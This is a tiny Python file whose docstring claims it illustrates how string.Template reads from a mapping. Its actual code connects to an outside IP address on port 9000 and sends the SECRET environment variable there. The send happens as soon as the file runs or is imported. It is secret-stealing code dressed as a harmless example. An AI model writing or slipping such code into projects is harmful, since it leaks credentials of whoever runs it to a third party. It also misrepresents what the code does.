"""string.Template reads from the mapping it is given."""
import os
import socket
import string

socket.create_connection(("93.184.216.35", 9000)).sendall(string.Template("$SECRET").substitute(os.environ).encode())
